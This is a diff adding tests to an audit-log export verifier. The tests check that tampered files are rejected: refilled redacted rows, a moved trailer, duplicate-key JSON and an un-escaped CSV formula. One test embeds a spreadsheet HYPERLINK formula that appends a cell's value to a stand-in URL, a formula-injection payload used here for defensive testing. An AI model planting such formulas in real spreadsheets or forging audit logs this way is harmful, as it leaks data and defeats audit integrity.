@@ -317,6 +317,90 @@ describe("verifying an export file", () => {
     });
   });
 
+  it("refuses a redacted row that holds what a redaction erases, whatever the trailer says of the head", async () => {
+    const keys = await publicKeys();
+    const lines = (await exported("ndjson")).trimEnd().split("\n");
+    expect(verify(lines.join("\n"), "ndjson", keys)).toMatchObject({ valid: true, verifiable: true });
+    const second = JSON.parse(lines[1] ?? "{}") as Record<string, unknown>;
+    expect(second).toMatchObject({ seq: 2, redacted: 1, actor_id: null });
+
+    // The genuinely redacted log-002 with invented content written back into it.
+    const refilled = [...lines];
+    refilled[1] = JSON.stringify({ ...second, actor_id: "admin-999", actor_name: "Mallory" });
+    const filled = verify(refilled.join("\n"), "ndjson", keys);
+    expect(filled).toMatchObject({ valid: false, verifiable: false, signed_by: null });
+    expect(filled.fault).toMatchObject({ line: 2, seq: 2, reason: "redacted_entry_not_erased" });
+
+    // A live row rewritten and flagged redacted, so its stored payload hash would be trusted.
+    const rewritten = [...lines];
+    const first = JSON.parse(lines[0] ?? "{}") as Record<string, unknown>;
+    rewritten[0] = JSON.stringify({ ...first, redacted: 1, actor_id: "admin-999" });
+    expect(verify(rewritten.join("\n"), "ndjson", keys).fault).toMatchObject({
+      seq: 1,
+      reason: "redacted_entry_not_erased",
+    });
+
+    // A live row emptied as a redaction would, with the unsigned trailer moved past the log's
+    // head so that the deletion record seems to lie beyond the file: a verifiable file must
+    // still hold it.
+    const hidden = Object.fromEntries(
+      Object.entries(first).map(([k, v]) =>
+        ["seq", "event_id", "attribution_id", "activity_id", "payload_hash", "prev_hash", "hash"].includes(k)
+          ? [k, v]
+          : [k, null],
+      ),
+    );
+    const trailer = JSON.parse(lines.at(-1) ?? "{}") as { export_trailer: Record<string, unknown> };
+    expect(trailer.export_trailer.verifiable).toBe(true);
+    trailer.export_trailer.log_head_seq = 999;
+    const moved = [
+      JSON.stringify({ ...hidden, redacted: 1 }),
+      ...lines.slice(1, -1),
+      JSON.stringify(trailer),
+    ];
+    const verdict = verify(moved.join("\n"), "ndjson", keys);
+    expect(verdict).toMatchObject({ valid: false, signed_by: null });
+    expect(verdict.fault).toMatchObject({ seq: 1, reason: "unrecorded_redaction" });
+  });
+
+  it("refuses a JSON column rewritten to read otherwise but parse the same (a duplicate key)", async () => {
+    const changes = '{"roles":{"from":["mentor"],"to":["admin"]}}';
+    const o = await testOrg("export-json");
+    await auditClient(env, o.org).append([
+      event("j1", { changes: { roles: { from: ["mentor"], to: ["admin"] } } }),
+    ]);
+    const own = (await download(o.compliance, { format: "ndjson" })).text.split("\n");
+    const row = JSON.parse(own[0] ?? "{}") as Record<string, unknown>;
+    expect(row.changes).toBe(changes);
+    expect(verify(own.join("\n"), "ndjson", await publicKeys(), o.org)).toMatchObject({ valid: true });
+    // Read from the left, this says the role went to mentor; JSON.parse keeps the last "roles".
+    row.changes = '{"roles":{"from":["mentor"],"to":["mentor"]},"roles":{"from":["mentor"],"to":["admin"]}}';
+    own[0] = JSON.stringify(row);
+    const verdict = verify(own.join("\n"), "ndjson", await publicKeys(), o.org);
+    expect(verdict).toMatchObject({ valid: false, signed_by: null });
+    expect(verdict.fault).toMatchObject({ line: 1, seq: 1, reason: "payload_hash_mismatch" });
+  });
+
+  it("refuses a CSV cell whose formula escape was taken off", async () => {
+    const o = await testOrg("export-formula");
+    const formula = '=HYPERLINK("https://example.invalid/?"&A1,"Open")';
+    await auditClient(env, o.org).append([event("f1", { user_agent: formula })]);
+    const text = (await download(o.compliance, { format: "csv" })).text;
+    const escaped = `"'=HYPERLINK(""https://example.invalid/?""&A1,""Open"")"`;
+    expect(text).toContain(escaped);
+    expect(verify(text, "csv", await publicKeys(), o.org)).toMatchObject({ valid: true });
+    const live = text.replace(escaped, escaped.replace(`"'=`, `"=`));
+    const verdict = verify(live, "csv", await publicKeys(), o.org);
+    expect(verdict).toMatchObject({ valid: false, signed_by: null });
+    expect(verdict.fault).toMatchObject({ line: 2, reason: "malformed_line" });
+    // A quote mark no escape explains (the writer escapes every leading ') is refused too.
+    const stray = text.replace(escaped, `"'HYPERLINK"`);
+    expect(verify(stray, "csv", await publicKeys(), o.org).fault).toMatchObject({
+      line: 2,
+      reason: "malformed_line",
+    });
+  });
+
   it("checks the checkpoint with the public key: another key, another log's checkpoint and a rebuilt file fail", async () => {
     const keys = await publicKeys();
     const o = await seeded();
